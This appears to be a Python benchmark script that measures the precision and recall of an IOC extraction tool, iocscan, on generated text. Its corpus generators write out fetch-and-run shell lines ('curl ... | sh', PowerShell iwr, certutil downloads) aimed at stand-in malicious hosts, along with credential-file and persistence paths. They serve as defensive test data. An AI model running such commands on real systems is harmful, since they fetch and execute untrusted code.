#!/usr/bin/python3
"""Precision of iocscan on realistic text: how many reported values would not
go on a block list.

Generates deterministic text of the kinds analysts scan (web and system logs,
JSON with escaped strings, CSV indicator lists, Markdown, HTML, AsciiDoc,
YARA rules, prose with defanged IOCs, Windows paths, regexes, shell command
lines, version strings, random bytes), runs `iocscan --jsonl --refang` over
it, and checks each value's shape with rules written independently of the
scanner:

  url    scheme://host...: the host is a DNS name whose last label is a real
         top-level domain (Public Suffix List) or an IPv4/IPv6 address; the
         value holds no whitespace, '"', '<', '>', '\\', '{', '}' and no
         unbalanced closing bracket
  ipv4   four octets, and not a version: not preceded by "v", a letter run
         and "/" ("Chrome/"), "_" or a dotted number, nor followed by ".N"
  email  local@domain, the domain a DNS name with a real top-level domain
  domain a DNS name with a real top-level domain
  hashes hex digits of the type's length

Prints, per type, values checked, values failing, the failing share, and up
to --show examples of failures. Recall: every plain URL the generators put
in the text that ends there at whitespace, '"', "'", '<', '>', ')', ']',
',' or '`' must be among the URL values; the misses are counted and shown. Exit status 1 when the URL share is 0.5 % or
more (the issue's target), else 0.

    bench/precision.py [--bin build/iocscan] [--size 2000000] [--seed 1] [--show 8]
    bench/precision.py --input FILE...      the same checks on given text
"""
import argparse
import collections
import ipaddress
import json
import os
import random
import re
import subprocess
import sys
import tempfile

PSL = "/usr/share/publicsuffix/public_suffix_list.dat"


def load_tlds():
    tlds = set()
    with open(PSL, encoding="utf-8") as f:
        for line in f:
            line = line.strip()
            if line and not line.startswith("//") and "." not in line and line.isascii():
                tlds.add(line.lstrip("!*."))
    # RFC 2606 documentation names: the scanner accepts them (docs and tests
    # use them); the generated text never does.
    return tlds | {"example", "test"}


# ---------------------------------------------------------------- generators

HOSTS = ["evil-cdn.com", "login.bank-secure.co", "update.example.net", "c2.badguy.ru", "is.gd",
         "files.example.org", "cdn.jsdelivr.net", "api.github.com", "x-example.com", "mail.corp-local.net",
         "management.core.windows.net", "paste.ee", "dropbox.com", "t.me", "bit.ly"]
PATHS = ["", "/", "/a.exe", "/dl/payload.bin", "/gate.php?id=42&k=v", "/wiki/Foo_(bar)",
         "/static/js/app.min.js", "/r?u=v", "/index.html#top", "/api/v1/items/17"]
WORDS = ("the of and to in is that for it as was with be by on not he this are or his from at which but "
         "have an they you were her she there been one all we their has would when if so no will "
         "malware actor campaign payload dropper beacon loader stage server domain host traffic observed "
         "analysts report sample hash indicator lateral movement persistence credential").split()


def ip(rng):
    return ".".join(str(rng.choice([10, 192, 172, 203, 198, 45, 185, 8])) if i == 0 else str(rng.randrange(256))
                    for i in range(4))


PLANTED = set()   # every plain URL the generators made (not all are used)


def url(rng):
    host = rng.choice(HOSTS) if rng.random() < 0.85 else ip(rng)
    u = rng.choice(["http", "https", "https", "ftp"]) + "://" + host + rng.choice(PATHS)
    PLANTED.add(u)
    return u


def defang(rng, u):
    u = u.replace("http", rng.choice(["hxxp", "hXXp", "http"]), 1)
    host_end = u.find("/", u.find("://") + 3)
    host_end = len(u) if host_end < 0 else host_end
    dot = rng.choice(["[.]", "(.)", "[dot]", "\\."])
    u = u[:host_end].replace(".", dot) + u[host_end:]
    if rng.random() < 0.3:
        return u.split("://", 1)[-1]   # scheme-less, as in many reports
    if rng.random() < 0.3:
        u = u.replace("://", rng.choice(["[://]", "[:]//", "://"]), 1)
    return u


def sentence(rng, n=12):
    return " ".join(rng.choice(WORDS) for _ in range(n))


def gen_log(rng):
    u = url(rng)
    return rng.choice([
        f'{ip(rng)} - - [06/Dec/2026:01:{rng.randrange(60):02d}:00 +0000] "GET {u.split("://")[1][u.split("://")[1].find("/"):] or "/"} HTTP/1.1" 200 {rng.randrange(99999)} "{url(rng)}" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/119.0.0.0 Safari/537.36"',
        f"Dec  6 01:{rng.randrange(60):02d}:11 host sshd[{rng.randrange(9999)}]: Failed password for root from {ip(rng)} port {rng.randrange(65535)} ssh2",
        f"2026-12-06T01:02:03Z INFO fetch url={u} status=200 took=12ms version=v2.4.1.9",
        f"[{rng.randrange(9)}.{rng.randrange(99)}] kernel: pclean.v2.1.1.0-linux loaded at 0x{rng.randrange(1 << 32):08x}",
        f'proxy: CONNECT {rng.choice(HOSTS)}:443 user="{rng.choice(WORDS)}" agent="curl/7.88.1"',
    ])


def gen_json(rng):
    u = url(rng)
    return rng.choice([
        json.dumps({"url": u, "k": [], "tags": ["c2", "phish"]}),
        json.dumps({"description": f"Adversaries may use {u}).\n\nThere is more: T1059/001.", "id": 7}),
        json.dumps({"ioc": defang(rng, u), "first_seen": "2016-12-01", "score": 3}),
        '{"links":["' + url(rng) + '/","' + url(rng) + '"],"n":2}',
        json.dumps({"regex": "foo\\.bar", "path": "C:\\Users\\bob\\.ssh\\id_rsa"}),
    ])


def gen_csv(rng):
    return rng.choice([
        f"Domain,{defang(rng, rng.choice(HOSTS)).split('://')[-1]},Observed",
        f'"{"www." + rng.choice(HOSTS).replace(".", "[.]")}",1,2016',
        f"url,{defang(rng, url(rng))},high,{rng.randrange(100)}",
        f"{ip(rng)},{rng.randrange(65535)},tcp,{rng.choice(WORDS)}",
        f'=HYPERLINK("{url(rng)}")@evil,click',
    ])


def gen_markup(rng):
    a, b = url(rng), url(rng)
    return rng.choice([
        f'<a href="{a}">Reset</a> <img src="{b}"/>',
        f"[{a}]({b}) and see [docs]({url(rng)}).",
        f"{a}[Link text] in AsciiDoc",
        f"* <{a}> - {sentence(rng, 5)}",
        f"`{a}` in backticks, ({b}), and '{url(rng)}'.",
    ])


def gen_yara(rng):
    h = "".join(rng.choice("0123456789abcdef") for _ in range(64))
    return (f'rule sig_{h} {{\n  meta:\n    author = "ths @ ccc.de"\n    ref = "{url(rng)}"\n'
            f'  strings:\n    $ua = /Mozilla\\/5\\.0/\n    $a = "cmd.exe" nocase\n    $b = "{{0}}"\n'
            f"  condition:\n    $b at pe.overlay.offset and filesize < 2MB\n}}")


def gen_prose(rng):
    u = url(rng)
    return rng.choice([
        f"The actor used {defang(rng, u)} to stage the payload; {sentence(rng)}.",
        f"Fig(.) 3 shows the C2 server at {rng.choice(HOSTS).replace('.', '[.]')} and {sentence(rng, 6)}.",
        f"Cisco Talos saw hxxps[://]{rng.choice(HOSTS).replace('.', '[.]')}/x in the campaign.",
        f"{sentence(rng)} (see {u}). {sentence(rng, 8)}!",
        f"Contact ops[at]example[.]com or john at example dot com; {sentence(rng, 6)}.",
        f"Version 1.2.3.4 of the tool, build epicbanana_2.1.0.1.py, placeholder http://{{0}}:65101/x.",
        f"Callback https://<random_string>.evil.ru/p and %s/%d formats.",
    ])


def gen_windows(rng):
    return rng.choice([
        "C:\\Users\\bob\\.ssh\\id_rsa", "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\evil.lnk",
        "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater",
        "\\\\fileserver\\share\\drop\\a.exe", "svcsstat\\.exe;70", "(word\\.exe|winword\\.exe)",
    ])


def gen_regex(rng):
    return rng.choice([
        'grep -E "foo\\.bar|baz\\.qux" access.log', "^https?://[a-z0-9.-]+\\.example\\.com/.*$",
        "$ua = /Mozilla\\/5\\.0/", "\\b(?:\\d{1,3}\\.){3}\\d{1,3}\\b", "[a-z]+(\\.[a-z]+)*@corp\\.com",
    ])


def gen_shell(rng):
    return rng.choice([
        f'"cmd /c {url(rng)}/b.exe /y"', f"powershell -c iwr {url(rng)} -OutFile a.ps1",
        f"curl -sk {url(rng)} | sh", f"certutil -urlcache -f {url(rng)}/p.txt p.txt",
    ])


def gen_random(rng):
    return bytes(rng.randrange(256) for _ in range(rng.randrange(40, 400))).decode("latin-1")


GENERATORS = [gen_log, gen_json, gen_csv, gen_markup, gen_yara, gen_prose, gen_windows, gen_regex,
              gen_shell, gen_random]


def corpus(size, seed):
    rng = random.Random(seed)
    parts, total = [], 0
    while total < size:
        line = rng.choice(GENERATORS)(rng)
        parts.append(line)
        total += len(line) + 1
    return ("\n".join(parts) + "\n").encode("latin-1", "replace")


# ---------------------------------------------------------------- checks

LABEL = re.compile(r"^[a-z0-9_](?:[a-z0-9_-]{0,61}[a-z0-9])?$")


def dns_name(name, tlds):
    labels = name.lower().rstrip(".").split(".")
    return len(labels) >= 2 and all(LABEL.match(x) for x in labels) and labels[-1] in tlds


def is_ip(host):
    try:
        ipaddress.ip_address(host.strip("[]"))
        return True
    except ValueError:
        return False


def balanced(s):
    depth = {")": 0, "]": 0, "}": 0}
    opener = {"(": ")", "[": "]", "{": "}"}
    for c in s:
        if c in opener:
            depth[opener[c]] += 1
        elif c in depth:
            depth[c] -= 1
            if depth[c] < 0:
                return False
    return True


def check_url(value, tlds):
    if re.search(r'[\s"<>\\{}]', value):
        return "forbidden character"
    if not balanced(value):
        return "unbalanced closing bracket"
    m = re.match(r"^[a-z][a-z0-9+.-]*://(\[[^\]]*\]|[^/?#:]*)(?::(\d+))?(?:[/?#]|$)", value)
    if not m:
        return "not scheme://host"
    if value.startswith("file:///"):
        return None
    host = m.group(1)
    if is_ip(host) or dns_name(host, tlds):
        return None
    return "host is no DNS name with a real TLD nor an IP"


def check_ipv4(value, raw, text, offset):
    before = text[max(0, offset - 16):offset].decode("latin-1")
    after = text[offset + len(raw):offset + len(raw) + 2].decode("latin-1")
    if re.search(r"(?:[vV]|[A-Za-z]/|_|\d\.)$", before) or re.match(r"\.\d", after):
        return "version string"
    return None


def check_email(value, tlds):
    local, _, domain = value.partition("@")
    if not local or not re.match(r"^[A-Za-z0-9._%+-]+$", local) or not dns_name(domain, tlds):
        return "domain is no DNS name with a real TLD"
    return None


HEX_LENGTHS = {"md5": 32, "sha1": 40, "sha256": 64, "sha512": 128}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--bin", default="build/iocscan")
    ap.add_argument("--size", type=int, default=2_000_000)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--show", type=int, default=8)
    ap.add_argument("--input", nargs="*", help="check these files instead of generated text")
    args = ap.parse_args()
    tlds = load_tlds()
    if args.input:
        text = b"\n".join(open(path, "rb").read() for path in args.input)
    else:
        text = corpus(args.size, args.seed)
    with tempfile.NamedTemporaryFile(suffix=".txt", delete=False) as f:
        f.write(text)
        path = f.name
    try:
        out = subprocess.run([args.bin, "--jsonl", "--refang", "--types",
                              "url,ipv4,ipv6,email,md5,sha1,sha256,sha512,domain", path],
                             stdout=subprocess.PIPE, check=False).stdout
    finally:
        os.unlink(path)
    checked = collections.Counter()
    failed = collections.Counter()
    examples = collections.defaultdict(list)
    for line in out.decode("utf-8", "replace").splitlines():
        rec = json.loads(line)
        kind, value, raw = rec["type"], rec["value"], rec["raw"]
        why = None
        if kind == "url":
            why = check_url(value, tlds)
        elif kind == "ipv4":
            why = check_ipv4(value, raw, text, rec["offset"])
        elif kind == "email":
            why = check_email(value, tlds)
        elif kind == "domain":
            why = None if dns_name(value, tlds) else "no DNS name with a real TLD"
        elif kind in HEX_LENGTHS:
            why = None if re.fullmatch("[0-9a-fA-F]{%d}" % HEX_LENGTHS[kind], value) else "not hex"
        checked[kind] += 1
        if why:
            failed[kind] += 1
            example = f"{why}: {raw!r} -> {value!r}"
            if len(examples[kind]) < args.show and example not in examples[kind]:
                examples[kind].append(example)
    source = f"{len(args.input)} files" if args.input else f"seed {args.seed}"
    print(f"corpus: {len(text)} bytes, {source}; {args.bin}")
    print(f"{'type':8} {'values':>8} {'failing':>8} {'share':>8}")
    for kind in sorted(checked):
        share = 100.0 * failed[kind] / checked[kind]
        print(f"{kind:8} {checked[kind]:8} {failed[kind]:8} {share:7.2f}%")
    for kind in sorted(examples):
        print(f"\n{kind} failures (first {len(examples[kind])} distinct):")
        for e in examples[kind]:
            print("  " + e)
    found_urls = set()
    for line in out.decode("utf-8", "replace").splitlines():
        rec = json.loads(line)
        if rec["type"] == "url":
            found_urls.add(rec["value"])
    wanted = [u for u in sorted(PLANTED)
              if re.search(re.escape(u).encode() + rb'(?=[\s"\'<>)\],`]|$)', text)]
    missed = [u for u in wanted if u not in found_urls]
    if not args.input:
        print(f"\nrecall: {len(wanted) - len(missed)} of {len(wanted)} distinct planted URLs found")
    for u in missed[:args.show]:
        print("  missed: " + u)
    url_share = failed["url"] / checked["url"] if checked["url"] else 0.0
    return 1 if url_share >= 0.005 else 0


if __name__ == "__main__":
    sys.exit(main())
